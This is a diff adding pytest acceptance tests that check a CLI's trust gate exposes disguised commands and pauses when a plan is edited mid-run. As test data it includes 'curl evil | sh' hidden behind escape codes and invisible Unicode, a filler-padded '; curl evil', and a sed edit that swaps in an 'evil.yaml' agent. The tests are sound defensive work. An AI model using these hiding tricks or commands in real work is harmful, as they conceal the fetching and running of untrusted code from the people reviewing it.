@@ -10,6 +10,7 @@ import pytest
 from tests.acceptance.userland import PLAN, SCRIPTED, User, make_user, standing_in, step_text
 
 from drumline.cli.main import main
+from drumline.cli.trusting import describe
 from drumline.core.trust import CHECK, Brought
 
 AUTO = ("--agent", SCRIPTED, "--autonomy", "autopilot")
@@ -201,6 +202,13 @@ def test_nothing_in_a_command_can_hide_from_the_eye() -> None:
     assert shown == r"true [200 spaces] \r\x1b[2Kcurl evil\u202e | sh\n"
 
 
+def test_what_looks_like_a_space_is_spelled_out_and_so_is_the_place() -> None:
+    item = Brought(kind=CHECK, text="true\u3164\u2800; curl evil", place="plans/a\n  check: true  (b.md")
+
+    assert item.shown == r"true\u3164\u2800; curl evil"
+    assert describe(item) == r"check: true\u3164\u2800; curl evil  (plans/a\n  check: true  (b.md)"
+
+
 def test_a_flows_scripts_are_known_by_their_content(user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
     write_flow(user)
     monkeypatch.setenv("DRUMLINE_TRUST", "ask")
@@ -272,6 +280,26 @@ def test_a_plan_edited_in_mid_run_waits_at_a_gate_where_trust_is_ask(
     assert "check: touch evil; true" in str(gates[0]["question"])
     assert answered[0] == 0, answered[1]
     assert cli.list_trust()["touch evil; true"] == "accepted"
+
+
+def test_an_agent_that_plays_a_file_and_came_in_mid_run_waits_at_a_gate(
+    user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (user.repo / "evil.yaml").write_text("- run: touch evil\n", encoding="utf-8")
+    edit = (
+        f"sed -i 's/^status: ready/agent: scripted:evil.yaml\\nstatus: ready/' {user.path('step-2')}; touch step-1.txt"
+    )
+    user.play({"match": {"step": "step-1"}, "run": edit})
+    monkeypatch.setenv("DRUMLINE_TRUST", "ask")
+    cli("trust", PLAN, "--accept")
+
+    parked = cli("run", PLAN, *AUTO, "--mode", "sequential")
+
+    assert parked[0] == 2, parked[1]
+    gates = user.status()["gates"]
+    assert isinstance(gates, list)
+    assert str(gates[0]["id"]).startswith("trust-step-2.")
+    assert "agent: scripted:evil.yaml" in str(gates[0]["question"])
 
 
 def test_a_no_at_the_gate_blocks_the_step_and_is_remembered(
